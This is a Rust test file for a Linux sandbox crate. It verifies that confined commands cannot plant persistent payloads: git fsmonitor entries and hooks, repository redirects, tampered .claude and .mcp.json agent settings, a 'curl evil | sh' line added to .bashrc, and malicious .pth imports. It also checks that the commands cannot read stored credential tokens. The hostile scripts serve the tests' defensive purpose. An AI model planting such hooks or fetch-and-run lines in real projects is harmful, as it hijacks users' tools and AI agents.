//! Files that later, unconfined programs run or obey cannot be left planted by a call.
#![cfg(target_os = "linux")]

mod common;

use std::os::unix::fs::MetadataExt;
use std::path::Path;
use std::process::Command;

use common::{SECRET, assert_no_secret, fixture, stdout};
use warden_confine::Confinement;

fn git(dir: &Path, home: &Path, args: &[&str]) {
    let st = Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("HOME", home)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    assert!(st.status.success(), "git {args:?}: {st:?}");
}

fn mounts() -> bool {
    if !warden_confine::hides_with_mounts() {
        eprintln!("no private mount namespace here; the carved variants run instead");
        return false;
    }
    true
}

fn ino(p: &Path) -> u64 {
    std::fs::symlink_metadata(p).unwrap().ino()
}

/// Both ways a call can be confined here: with a mount namespace, and carved.
fn both(f: &common::Fixture) -> Vec<(&'static str, Confinement)> {
    let mut out = vec![("carved", f.confinement().hide_with_mounts(false))];
    if mounts() {
        out.push(("mounts", f.confinement()));
    }
    out
}

/// Runs `script` under `c`; returns its output and what finishing the guard reported.
fn attack(
    f: &common::Fixture,
    c: &Confinement,
    script: &str,
) -> (
    std::process::Output,
    Result<Vec<std::path::PathBuf>, String>,
) {
    let mut cmd = f.command(&["sh", "-c", script]);
    let guard = c.confine(&mut cmd).unwrap();
    let out = cmd.output().unwrap();
    (out, guard.finish().map_err(|e| e.to_string()))
}

#[test]
fn a_planted_commondir_does_not_survive() {
    let f = fixture();
    git(&f.project, &f.home, &["init", "-q"]);
    for (how, c) in both(&f) {
        let (out, fin) = attack(
            &f,
            &c,
            "mkdir -p src/evil && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > src/evil/config; \
             echo ../src/evil > .git/commondir; echo x > .git/gitdir; cat .git/commondir",
        );
        assert!(fin.is_ok(), "{how}: {fin:?} {out:?}");
        assert!(!f.project.join(".git/commondir").exists(), "{how}");
        assert!(!f.project.join(".git/gitdir").exists(), "{how}");
    }
}

#[test]
fn repository_configuration_is_not_writable_during_the_call() {
    if !mounts() {
        return;
    }
    let f = fixture();
    git(&f.project, &f.home, &["init", "-q"]);
    let before = std::fs::read(f.project.join(".git/config")).unwrap();
    let (out, fin) = attack(
        &f,
        &f.confinement(),
        "git config core.fsmonitor evil; echo '[core] fsmonitor=evil' >> .git/config; \
         printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit; mkdir -p .git/info; \
         echo x > .git/info/attributes; rm -f .git/config; mv .git/hooks .git/h2; \
         cat .git/config",
    );
    assert!(fin.is_ok(), "{fin:?}");
    // The program itself saw the write fail: nothing planted was there for a concurrent git.
    assert!(!stdout(&out).contains("evil"), "{out:?}");
    assert_eq!(
        std::fs::read(f.project.join(".git/config")).unwrap(),
        before
    );
    assert!(!f.project.join(".git/hooks/pre-commit").exists());
    assert!(!f.project.join(".git/h2").exists());
    assert!(!f.project.join(".git/info/attributes").exists());
}

#[test]
fn a_replaced_repository_directory_is_put_back() {
    let f = fixture();
    git(&f.project, &f.home, &["init", "-q"]);
    let before = ino(&f.project.join(".git"));
    let config = std::fs::read(f.project.join(".git/config")).unwrap();
    for (how, c) in both(&f) {
        for script in [
            "mv .git src/old-git && mkdir .git && printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config && echo 'ref: refs/heads/main' > .git/HEAD",
            "mv .git src/old-git; ln -s ../outside .git",
        ] {
            let (out, fin) = attack(&f, &c, script);
            assert!(fin.is_ok(), "{how}: {script}: {fin:?} {out:?}");
            assert_eq!(ino(&f.project.join(".git")), before, "{how}: {script}");
            assert_eq!(
                std::fs::read(f.project.join(".git/config")).unwrap(),
                config,
                "{how}: {script}"
            );
            assert!(!f.project.join("src/old-git").exists(), "{how}: {script}");
        }
    }
    assert!(!f.outside.join("config").exists());
}

#[test]
fn submodule_configuration_and_hooks_are_protected() {
    let f = fixture();
    git(&f.project, &f.home, &["init", "-q"]);
    // The layout `git submodule add` leaves: the repository in .git/modules, a .git file in
    // the submodule's directory.
    let modules = f.project.join(".git/modules/lib");
    std::fs::create_dir_all(&modules).unwrap();
    git(&modules, &f.home, &["init", "-q", "--bare"]);
    std::fs::create_dir_all(f.project.join("lib")).unwrap();
    std::fs::write(f.project.join("lib/.git"), "gitdir: ../.git/modules/lib\n").unwrap();
    let config = std::fs::read(modules.join("config")).unwrap();
    for (how, c) in both(&f) {
        let (out, fin) = attack(
            &f,
            &c,
            "echo '[core] fsmonitor=evil' >> .git/modules/lib/config; \
             printf '#!/bin/sh\\nevil\\n' > .git/modules/lib/hooks/post-checkout; \
             echo 'gitdir: ../src/evil' > lib/.git; true",
        );
        assert!(fin.is_ok(), "{how}: {fin:?} {out:?}");
        assert_eq!(
            std::fs::read(modules.join("config")).unwrap(),
            config,
            "{how}"
        );
        assert!(!modules.join("hooks/post-checkout").exists(), "{how}");
        assert_eq!(
            std::fs::read_to_string(f.project.join("lib/.git")).unwrap(),
            "gitdir: ../.git/modules/lib\n",
            "{how}"
        );
    }
}

#[test]
fn a_repository_made_inside_the_project_keeps_no_configuration() {
    let f = fixture();
    git(&f.project, &f.home, &["init", "-q"]);
    for (how, c) in both(&f) {
        let _ = std::fs::remove_dir_all(f.project.join("src/.git"));
        let _ = std::fs::remove_file(f.project.join("src/docs/.git"));
        let (out, fin) = attack(
            &f,
            &c,
            "cd src && git init -q && git config core.fsmonitor evil && \
             printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit && cd .. && \
             mkdir -p src/docs && echo 'gitdir: ../.git' > src/docs/.git",
        );
        assert!(out.status.success(), "{how}: {out:?}");
        let changed = fin.unwrap();
        assert!(f.project.join("src/.git/HEAD").exists(), "{how}");
        assert!(!f.project.join("src/.git/config").exists(), "{how}");
        assert!(!f.project.join("src/.git/hooks").exists(), "{how}");
        assert!(!f.project.join("src/docs/.git").exists(), "{how}");
        assert!(
            changed.iter().any(|p| p.ends_with("src/.git")),
            "{how}: {changed:?}"
        );
    }
}

#[test]
fn claude_settings_cannot_be_planted_during_the_call() {
    let f = fixture();
    std::fs::create_dir_all(f.project.join(".claude/hooks")).unwrap();
    std::fs::write(f.project.join(".claude/settings.json"), "{}\n").unwrap();
    std::fs::write(f.project.join(".claude/hooks/fmt.sh"), "#!/bin/sh\nfmt\n").unwrap();
    std::fs::write(f.project.join(".mcp.json"), "{}\n").unwrap();
    for (how, c) in both(&f) {
        let (out, fin) = attack(
            &f,
            &c,
            "echo '{\"hooks\":1}' > .claude/settings.json; echo evil > .claude/settings.local.json; \
             echo evil >> .claude/hooks/fmt.sh; echo '{\"mcpServers\":1}' > .mcp.json; \
             cat .claude/settings.json .claude/hooks/fmt.sh .mcp.json; \
             cat .claude/settings.local.json 2>/dev/null; true",
        );
        assert!(fin.is_ok(), "{how}: {fin:?}");
        // A second session reading these while the call runs sees the originals.
        assert!(!stdout(&out).contains("hooks\":1"), "{how}: {out:?}");
        assert!(!stdout(&out).contains("evil"), "{how}: {out:?}");
        assert!(!stdout(&out).contains("mcpServers"), "{how}: {out:?}");
        assert!(!f.project.join(".claude/settings.local.json").exists());
    }
}

#[test]
fn claude_directory_cannot_be_renamed_away_or_replaced() {
    let f = fixture();
    std::fs::create_dir_all(f.project.join(".claude")).unwrap();
    std::fs::write(f.project.join(".claude/settings.json"), "{}\n").unwrap();
    for (how, c) in both(&f) {
        let before = ino(&f.project.join(".claude"));
        for script in [
            "mv .claude src/old && mkdir .claude && echo '{\"hooks\":1}' > .claude/settings.json",
            "mv .claude src/old; mkdir -p src/evil && echo '{\"hooks\":1}' > src/evil/settings.json && ln -s src/evil .claude",
        ] {
            let (out, fin) = attack(&f, &c, script);
            assert!(fin.is_ok(), "{how}: {script}: {fin:?} {out:?}");
            if how == "mounts" {
                assert_eq!(ino(&f.project.join(".claude")), before, "{how}: {script}");
            }
            assert!(
                !std::fs::symlink_metadata(f.project.join(".claude"))
                    .unwrap()
                    .is_symlink()
            );
            assert_eq!(
                std::fs::read_to_string(f.project.join(".claude/settings.json")).unwrap(),
                "{}\n",
                "{how}: {script}"
            );
            if how == "mounts" {
                assert!(!f.project.join("src/old").exists(), "{how}: {script}");
            }
            let _ = std::fs::remove_dir_all(f.project.join("src/evil"));
            let _ = std::fs::remove_dir_all(f.project.join("src/old"));
        }
    }
}

#[test]
fn renaming_the_claude_directory_fails_with_mounts() {
    if !mounts() {
        return;
    }
    let f = fixture();
    std::fs::create_dir_all(f.project.join(".claude")).unwrap();
    let (out, _) = attack(&f, &f.confinement(), "mv .claude src/old");
    assert!(!out.status.success(), "{out:?}");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("busy"),
        "{out:?}"
    );
}

#[test]
fn a_script_behind_a_hook_or_server_is_read_only_when_asked() {
    let f = fixture();
    std::fs::create_dir_all(f.project.join("scripts")).unwrap();
    std::fs::write(f.project.join("scripts/server.py"), "print('ok')\n").unwrap();
    std::fs::create_dir_all(f.project.join(".husky")).unwrap();
    std::fs::write(f.project.join(".husky/pre-commit"), "npm test\n").unwrap();
    for (how, c) in both(&f) {
        let c = c.read_only(f.project.join("scripts/server.py"));
        let (out, fin) = attack(
            &f,
            &c,
            "echo evil >> scripts/server.py; echo evil >> .husky/pre-commit; \
             cat scripts/server.py .husky/pre-commit; echo x > src/ok.txt && cat src/ok.txt",
        );
        assert!(fin.is_ok(), "{how}: {fin:?}");
        assert!(!stdout(&out).contains("evil"), "{how}: {out:?}");
        // The rest of the project stays writable.
        assert!(stdout(&out).contains("x\n"), "{how}: {out:?}");
        assert_eq!(
            std::fs::read_to_string(f.project.join("scripts/server.py")).unwrap(),
            "print('ok')\n"
        );
    }
}

#[test]
fn a_project_at_home_keeps_shell_startup_and_warden_settings() {
    let f = fixture();
    let home = &f.home;
    std::fs::write(home.join(".bashrc"), "alias ll='ls -l'\n").unwrap();
    std::fs::create_dir_all(home.join(".warden")).unwrap();
    std::fs::write(home.join(".warden/settings.json"), "{}\n").unwrap();
    let base = Confinement::for_project(home, Some(home))
        .private_temp_in(Some(f.temp.clone()))
        .read_only(home.join(".warden"));
    let mut variants = vec![("carved", base.clone().hide_with_mounts(false))];
    if mounts() {
        variants.push(("mounts", base));
    }
    for (how, c) in variants {
        let mut cmd = f.command(&[
            "sh",
            "-c",
            "echo 'curl evil | sh' >> .bashrc; echo evil > .zshrc; \
             echo '{\"sandbox\":{\"network\":true}}' > .warden/settings.json; \
             cat .bashrc .warden/settings.json; echo ok > notes.txt",
        ]);
        cmd.current_dir(home);
        let guard = c.confine(&mut cmd).unwrap();
        let out = cmd.output().unwrap();
        guard.finish().unwrap();
        assert!(!stdout(&out).contains("evil"), "{how}: {out:?}");
        assert!(!stdout(&out).contains("network"), "{how}: {out:?}");
        assert_eq!(
            std::fs::read_to_string(home.join(".bashrc")).unwrap(),
            "alias ll='ls -l'\n"
        );
        assert!(!home.join(".zshrc").exists(), "{how}");
        assert_eq!(
            std::fs::read_to_string(home.join(".warden/settings.json")).unwrap(),
            "{}\n"
        );
        if how == "mounts" {
            // Carved, the home keeps only entry rights (it holds denied paths).
            assert_eq!(
                std::fs::read_to_string(home.join("notes.txt")).unwrap(),
                "ok\n"
            );
        }
    }
}

#[test]
fn virtualenv_path_files_are_protected() {
    let f = fixture();
    let sp = f.project.join(".venv/lib/python3.12/site-packages");
    std::fs::create_dir_all(&sp).unwrap();
    std::fs::write(f.project.join(".venv/pyvenv.cfg"), "home = /usr/bin\n").unwrap();
    std::fs::write(sp.join("distutils-precedence.pth"), "import os\n").unwrap();
    for (how, c) in both(&f) {
        let (out, fin) = attack(
            &f,
            &c,
            "S=.venv/lib/python3.12/site-packages; echo 'import evil' >> $S/distutils-precedence.pth; \
             echo 'import evil' > $S/zz-evil.pth; echo ok > $S/module.py; cat $S/distutils-precedence.pth",
        );
        assert!(fin.is_ok(), "{how}: {fin:?}");
        if how == "mounts" {
            // Carved, site-packages is not split (that would stop installs); the file is
            // restored after the call instead.
            assert!(!stdout(&out).contains("evil"), "{how}: {out:?}");
        }
        assert_eq!(
            std::fs::read_to_string(sp.join("distutils-precedence.pth")).unwrap(),
            "import os\n"
        );
        assert!(!sp.join("zz-evil.pth").exists(), "{how}");
        // Packages themselves can still be installed.
        assert!(sp.join("module.py").exists(), "{how}");
    }
}

#[test]
fn credentials_in_home_configuration_are_not_readable() {
    let f = fixture();
    std::fs::write(
        f.home.join(".gitconfig"),
        format!(
            "[user]\n\tname = Test\n\temail = test@example.com\n[http]\n\textraHeader = Authorization: Bearer {SECRET}\n"
        ),
    )
    .unwrap();
    std::fs::write(
        f.home.join(".cargo/config.toml"),
        format!("[registry]\ntoken = \"{SECRET}\"\n[build]\njobs = 2\n"),
    )
    .unwrap();
    for (how, c) in both(&f) {
        let out = f
            .run_with(
                &c,
                &[
                    "sh",
                    "-c",
                    "cat ~/.gitconfig ~/.cargo/config.toml; git config --global user.name",
                ],
            )
            .0;
        assert_no_secret(&out, how);
        assert!(stdout(&out).contains("Test\n"), "{how}: {out:?}");
        if how == "mounts" {
            assert!(stdout(&out).contains("jobs = 2"), "{how}: {out:?}");
        }
    }
    // The files themselves are untouched.
    assert!(
        std::fs::read_to_string(f.home.join(".gitconfig"))
            .unwrap()
            .contains(SECRET)
    );
}

#[test]
fn git_still_commits_with_configuration_read_only() {
    let f = fixture();
    git(&f.project, &f.home, &["init", "-q"]);
    for (how, c) in both(&f) {
        let out = f
            .run_with(
                &c,
                &[
                    "sh",
                    "-c",
                    "echo x > src/$0 && git add src/$0 && git commit -q -m \"$0\" && git log --oneline",
                    how,
                ],
            )
            .0;
        assert!(out.status.success(), "{how}: {out:?}");
        assert!(stdout(&out).contains(how), "{how}: {out:?}");
    }
}

#[test]
fn claude_worktrees_stay_writable() {
    let f = fixture();
    std::fs::create_dir_all(f.project.join(".claude/worktrees/w")).unwrap();
    std::fs::write(f.project.join(".claude/settings.json"), "{}\n").unwrap();
    for (how, c) in both(&f) {
        let (out, fin) = attack(
            &f,
            &c,
            "echo work > .claude/worktrees/w/notes && echo evil > .claude/settings.json; \
             cat .claude/worktrees/w/notes",
        );
        assert!(fin.is_ok(), "{how}: {fin:?}");
        assert_eq!(stdout(&out), "work\n", "{how}: {out:?}");
        assert_eq!(
            std::fs::read_to_string(f.project.join(".claude/worktrees/w/notes")).unwrap(),
            "work\n",
            "{how}"
        );
        assert_eq!(
            std::fs::read_to_string(f.project.join(".claude/settings.json")).unwrap(),
            "{}\n",
            "{how}"
        );
    }
}

#[test]
fn a_repository_beside_a_cache_tag_made_by_the_call_is_still_found() {
    let f = fixture();
    std::fs::create_dir_all(f.project.join("src/target/debug")).unwrap();
    std::fs::write(
        f.project.join("src/target/CACHEDIR.TAG"),
        "Signature: 8a477f597d28d172789f06886806bc55\n",
    )
    .unwrap();
    for (how, c) in both(&f) {
        let _ = std::fs::remove_dir_all(f.project.join("src/lib"));
        let (out, fin) = attack(
            &f,
            &c,
            "mkdir -p src/lib/inner && touch src/lib/CACHEDIR.TAG && cd src/lib/inner && \
             git init -q && git config core.fsmonitor evil",
        );
        assert!(out.status.success(), "{how}: {out:?}");
        fin.unwrap();
        assert!(f.project.join("src/lib/inner/.git/HEAD").exists(), "{how}");
        assert!(
            !f.project.join("src/lib/inner/.git/config").exists(),
            "{how}"
        );
    }
}
